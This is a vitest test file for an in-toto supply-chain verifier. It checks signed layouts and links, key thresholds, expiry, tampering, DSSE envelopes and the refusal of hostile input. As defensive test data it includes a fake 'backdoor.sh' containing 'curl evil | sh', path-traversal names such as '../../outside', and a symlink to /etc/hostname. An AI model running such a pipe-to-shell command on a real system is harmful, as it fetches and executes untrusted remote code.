import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseTrustedPublicKey } from '../public-keys';
import type { TrustFlags } from '../format-verifier';
import { inTotoVerifier } from './in-toto-verifier';
import { createHashPool } from '../../hashing/hash-files';
import { envelopeMetadata, layoutSigned, linkSigned, makeKey, signMetadata, writeLink, type KitKey, type StepSpec } from './in-toto-test-kit';

let root: string;
const owner = makeKey('ed25519');
const writer = makeKey('ed25519');
const builder = makeKey('ecdsa-p256');
const reviewer = makeKey('rsa');
const stranger = makeKey('ecdsa-p384');

beforeAll(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'countersign-in-toto-'));
});
// The request carries the host's hash pool; in-toto reads its few products itself.
const hashPool = createHashPool({ workers: 1 });
afterAll(async () => {
  await hashPool.close();
  fs.rmSync(root, { recursive: true, force: true });
});

const SOURCE = 'print("hello")\n';
const BUILT = 'compiled bytes\n';

interface Scenario {
  work: string;
  links: string;
  layoutPath: string;
}

function standardSteps(overrides: Partial<Record<'write' | 'build', Partial<StepSpec>>> = {}): StepSpec[] {
  return [
    { name: 'write', keys: [writer], products: [['CREATE', 'src.txt'], ['DISALLOW', '*']], ...overrides.write },
    {
      name: 'build',
      keys: [builder],
      materials: [['MATCH', 'src.txt', 'WITH', 'PRODUCTS', 'FROM', 'write'], ['DISALLOW', '*']],
      products: [['CREATE', 'out.bin'], ['ALLOW', 'src.txt'], ['DISALLOW', '*']],
      ...overrides.build,
    },
  ];
}

/** A work directory, the links of both steps and the layout signed by `layoutSigner` (the owner unless said). */
function scenario(name: string, options: { steps?: StepSpec[]; layoutSigner?: KitKey; expires?: string; inspect?: object[]; buildProducts?: Record<string, string> } = {}): Scenario {
  const base = path.join(root, name);
  const work = path.join(base, 'work');
  const links = path.join(base, 'links');
  fs.mkdirSync(work, { recursive: true });
  fs.mkdirSync(links);
  fs.writeFileSync(path.join(work, 'src.txt'), SOURCE);
  fs.writeFileSync(path.join(work, 'out.bin'), BUILT);
  writeLink(links, 'write', writer, linkSigned('write', {}, { 'src.txt': SOURCE }));
  writeLink(links, 'build', builder, linkSigned('build', { 'src.txt': SOURCE }, options.buildProducts ?? { 'src.txt': SOURCE, 'out.bin': BUILT }));
  const layoutPath = path.join(base, 'root.layout');
  const layoutOptions = { ...(options.expires !== undefined ? { expires: options.expires } : {}), ...(options.inspect !== undefined ? { inspect: options.inspect as never } : {}) };
  fs.writeFileSync(layoutPath, signMetadata(layoutSigned(options.steps ?? standardSteps(), layoutOptions), [options.layoutSigner ?? owner]));
  return { work, links, layoutPath };
}

function trustFor(s: Scenario, ownerKey: KitKey = owner): TrustFlags {
  const layoutBytes = new Uint8Array(fs.readFileSync(s.layoutPath));
  return {
    keys: [parseTrustedPublicKey(ownerKey.publicPem, 'owner.pub', 'owner.pub', 'flag')],
    certificateAuthorities: [],
    trustedRoot: null,
    sigstoreIdentities: [],
    allowedSigners: null,
    principal: null,
    namespace: null,
    layout: { path: s.layoutPath, bytes: layoutBytes },
    linksDirectory: s.links,
    ignorePaths: [],
    ignoreUnsignedFiles: false,
    threshold: 1,
    anchors: ['--key owner.pub', `--layout ${s.layoutPath}`],
    source: 'flags',
  };
}

function verify(s: Scenario, ownerKey: KitKey = owner, now = new Date()) {
  const trust = trustFor(s, ownerKey);
  return inTotoVerifier.verify({
    format: 'in-toto',
    target: { path: s.work, kind: 'directory' },
    signature: { path: s.layoutPath, bytes: trust.layout!.bytes, separate: true },
    trust,
    job: {},
    hashPool,
    now,
  });
}

describe('in-toto verifier: layouts and links made with node:crypto', () => {
  it('verifies a two-step supply chain and checks the final products on disk', async () => {
    const s = scenario('good');
    const report = await verify(s);
    expect(report.verdict).toBe('verified');
    expect(report.bundle.format).toBe('in-toto');
    const names = report.signatures.map((sig) => [sig.status, sig.signerName]);
    expect(names).toContainEqual(['valid', 'layout owner (owner.pub)']);
    expect(names).toContainEqual(['valid', `step write, functionary ${writer.keyid}`]);
    expect(names).toContainEqual(['valid', `step build, functionary ${builder.keyid}`]);
    expect(report.subjects.map((subject) => [subject.name, subject.status]).sort()).toEqual([['out.bin', 'ok'], ['src.txt', 'ok']]);
    expect(report.unexpectedBlobs).toEqual([]);
  });

  it('accepts RSA-PSS and ECDSA P-384 functionaries', async () => {
    const s = scenario('rsa', { steps: standardSteps({ write: { keys: [reviewer] }, build: { keys: [stranger] } }) });
    writeLink(s.links, 'write', reviewer, linkSigned('write', {}, { 'src.txt': SOURCE }));
    writeLink(s.links, 'build', stranger, linkSigned('build', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': BUILT }));
    expect((await verify(s)).verdict).toBe('verified');
  });

  it('counts distinct functionary keys, never signatures or link files, against a step threshold', async () => {
    const twoKeys = standardSteps({ build: { keys: [builder, reviewer], threshold: 2 } });
    const s = scenario('threshold', { steps: twoKeys });
    // The builder's link carries the same signature twice: still one key.
    const signed = linkSigned('build', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': BUILT });
    writeLink(s.links, 'build', builder, signed, [builder, builder]);
    const one = await verify(s);
    expect(one.verdict).toBe('untrusted');
    expect(one.reasons.join(' ')).toContain('Step build: 1 distinct authorized functionary key(s) signed a link; 2 required');

    writeLink(s.links, 'build', reviewer, signed);
    expect((await verify(s)).verdict).toBe('verified');
  });

  it('does not count a link signed by a key the step does not authorize, even when the key is in the layout', async () => {
    const s = scenario('unauthorized', { steps: standardSteps(), });
    const layout = layoutSigned(standardSteps(), { extraKeys: [stranger] });
    fs.writeFileSync(s.layoutPath, signMetadata(layout, [owner]));
    // Named after the builder's key, signed by the stranger.
    writeLink(s.links, 'build', builder, linkSigned('build', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': BUILT }), [stranger]);
    const report = await verify(s);
    expect(report.verdict).toBe('untrusted');
    expect(report.signatures.find((sig) => sig.keyIdHint === stranger.keyid)?.status).toBe('unknown-key');
  });

  it('refuses an expired layout as untrusted', async () => {
    const s = scenario('expired', { expires: '2020-01-01T00:00:00Z' });
    const report = await verify(s);
    expect(report.verdict).toBe('untrusted');
    expect(report.reasons).toEqual(['The layout expired at 2020-01-01T00:00:00Z.']);
  });

  it('never trusts a layout signed by a key other than --key, though the layout names that key', async () => {
    const s = scenario('wrong-owner', { layoutSigner: writer });
    const report = await verify(s);
    expect(report.verdict).toBe('untrusted');
    expect(report.reasons[0]).toContain('not signed by the owner');
    // The right layout, checked with another owner key: untrusted too.
    expect((await verify(scenario('other-key'), writer)).verdict).toBe('untrusted');
  });

  it('finds a layout changed after the owner signed it (tampered), by every kind of owner key', async () => {
    for (const kind of ['ed25519', 'ecdsa-p256', 'ecdsa-p384', 'rsa'] as const) {
      const ownerKey = makeKey(kind);
      const s = scenario(`layout-edited-${kind}`, { layoutSigner: ownerKey });
      expect((await verify(s, ownerKey)).verdict).toBe('verified');
      fs.writeFileSync(s.layoutPath, fs.readFileSync(s.layoutPath, 'utf8').replace('"DISALLOW"', '"ALLOW"'));
      const report = await verify(s, ownerKey);
      expect(report.verdict).toBe('tampered');
      expect(report.signatures[0]).toMatchObject({ status: 'invalid', signerName: 'layout owner (owner.pub)' });
    }
  });

  it('reports a DISALLOW rule violated as tampered', async () => {
    const s = scenario('disallow', { buildProducts: { 'src.txt': SOURCE, 'out.bin': BUILT, 'backdoor.sh': 'curl evil | sh' } });
    fs.writeFileSync(path.join(s.work, 'backdoor.sh'), 'curl evil | sh');
    const report = await verify(s);
    expect(report.verdict).toBe('tampered');
    expect(report.reasons.join(' ')).toContain('Step build: expected_products rule "DISALLOW *" fails: backdoor.sh is disallowed');
  });

  it('finds a product changed, missing or added on disk after it was signed', async () => {
    const s = scenario('changed');
    fs.writeFileSync(path.join(s.work, 'out.bin'), 'replaced after signing\n');
    fs.rmSync(path.join(s.work, 'src.txt'));
    fs.writeFileSync(path.join(s.work, 'extra.txt'), 'nobody signed me');
    const report = await verify(s);
    expect(report.verdict).toBe('tampered');
    const out = report.subjects.find((subject) => subject.name === 'out.bin')!;
    expect(out).toMatchObject({ status: 'mismatch', expectedSha256: expect.stringMatching(/^[0-9a-f]{64}$/), actualSha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(out.expectedSha256).not.toBe(out.actualSha256);
    expect(report.subjects.find((subject) => subject.name === 'src.txt')?.status).toBe('missing');
    expect(report.unexpectedBlobs).toEqual(['extra.txt']);
  });

  it('never runs an inspection: reports it as not run and verifies only the steps', async () => {
    const marker = path.join(root, 'inspection-ran');
    const s = scenario('inspection', { inspect: [{ _type: 'inspection', name: 'untar', run: ['touch', marker], expected_materials: [], expected_products: [] }] });
    const report = await verify(s);
    expect(report.verdict).toBe('verified');
    expect(fs.existsSync(marker)).toBe(false);
    expect(report.findings).toContainEqual(expect.objectContaining({ code: 'in-toto-inspection-not-run', location: 'untar' }));
    expect(report.reasons[0]).toContain('1 inspection(s) not run');
  });

  it('finds a link changed after it was signed (tampered) and a link for another step', async () => {
    const s = scenario('link-edited');
    const file = path.join(s.links, `build.${builder.keyid.slice(0, 8)}.link`);
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('"out.bin"', '"out2.bin"'));
    const report = await verify(s);
    expect(report.verdict).toBe('tampered');
    expect(report.signatures.find((sig) => sig.keyIdHint === builder.keyid)?.status).toBe('invalid');

    const renamed = scenario('link-renamed');
    writeLink(renamed.links, 'build', builder, linkSigned('write', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': BUILT }));
    expect((await verify(renamed)).verdict).toBe('tampered');
  });
});

describe('in-toto verifier: layouts and links in DSSE envelopes', () => {
  it('verifies a DSSE layout and a DSSE link, and finds a DSSE link whose payload was changed', async () => {
    const s = scenario('dsse');
    fs.writeFileSync(s.layoutPath, envelopeMetadata(layoutSigned(standardSteps()), [owner]));
    const linkFile = path.join(s.links, `build.${builder.keyid.slice(0, 8)}.link`);
    fs.writeFileSync(linkFile, envelopeMetadata(linkSigned('build', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': BUILT }), [builder]));
    expect((await verify(s)).verdict).toBe('verified');

    // eslint-disable-next-line no-restricted-syntax -- the envelope this test just wrote
    const envelope = JSON.parse(fs.readFileSync(linkFile, 'utf8')) as { payload: string };
    const forged = linkSigned('build', { 'src.txt': SOURCE }, { 'src.txt': SOURCE, 'out.bin': 'other bytes' });
    envelope.payload = Buffer.from(JSON.stringify(forged)).toString('base64');
    fs.writeFileSync(linkFile, JSON.stringify(envelope));
    expect((await verify(s)).verdict).toBe('tampered');
  });
});

describe('in-toto verifier: hostile input is invalid and reads nothing outside', () => {
  it('refuses a step name that would leave the links directory', async () => {
    const s = scenario('hostile-step', { steps: standardSteps({ build: { name: '../../outside' } }) });
    fs.writeFileSync(path.join(root, `outside.${builder.keyid.slice(0, 8)}.link`), 'not read');
    const report = await verify(s);
    expect(report.verdict).toBe('invalid');
    expect(report.reasons[0]).toContain('"../../outside" is refused');
  });

  it('refuses a product path outside the work directory', async () => {
    const s = scenario('hostile-product', { buildProducts: { 'src.txt': SOURCE, 'out.bin': BUILT, '../secret': 'x' }, steps: standardSteps({ build: { products: [] } }) });
    const report = await verify(s);
    expect(report.verdict).toBe('invalid');
    expect(report.reasons[0]).toContain('"../secret"');
  });

  it('refuses a link that is a symbolic link, and a symbolic link in the work directory', async () => {
    const s = scenario('symlink-link');
    const file = path.join(s.links, `build.${builder.keyid.slice(0, 8)}.link`);
    const elsewhere = path.join(root, 'elsewhere.link');
    fs.renameSync(file, elsewhere);
    fs.symlinkSync(elsewhere, file);
    expect((await verify(s)).reasons[0]).toContain('symbolic link');

    const t = scenario('symlink-work');
    fs.symlinkSync('/etc/hostname', path.join(t.work, 'host'));
    const report = await verify(t);
    expect(report.verdict).toBe('invalid');
    expect(report.reasons[0]).toContain('host: is a symbolic link');
  });

  it('gives hostile JSON a clear invalid verdict: duplicate keys, floats, wrong types', async () => {
    const cases: [string, string][] = [
      ['{"signed": {"_type": "layout", "_type": "link"}, "signatures": []}', 'duplicate'],
      ['{"signed": {"_type": "layout", "expires": "2099-01-01T00:00:00Z", "keys": {}, "steps": [], "x": 1.5}, "signatures": []}', 'integers only'],
      ['{"signed": {"_type": "layout", "expires": 7, "keys": {}, "steps": []}, "signatures": []}', 'expires'],
      ['[1, 2]', 'expected an object'],
    ];
    for (const [text, words] of cases) {
      const s = scenario(`json-${words.replace(/\W/g, '')}`);
      fs.writeFileSync(s.layoutPath, text);
      const report = await verify(s);
      expect(report.verdict).toBe('invalid');
      expect(report.reasons[0]).toContain(words);
    }
  });

  it('refuses a link larger than the cap before parsing it', async () => {
    const s = scenario('huge-link');
    fs.writeFileSync(path.join(s.links, `build.${builder.keyid.slice(0, 8)}.link`), Buffer.alloc(16 * 1024 * 1024 + 1, 0x20));
    const report = await verify(s);
    expect(report.verdict).toBe('invalid');
    expect(report.reasons[0]).toContain('at most 16777216 are read');
  });

  it('refuses a layout key filed under an ID that is not its own', async () => {
    const s = scenario('keyid');
    const layout = layoutSigned(standardSteps()) as { keys: Record<string, unknown> };
    layout.keys[writer.keyid] = builder.metadata;
    fs.writeFileSync(s.layoutPath, signMetadata(layout as never, [owner]));
    const report = await verify(s);
    expect(report.verdict).toBe('invalid');
    expect(report.reasons[0]).toContain(`the key ID ${writer.keyid} is not this key's`);
  });
});
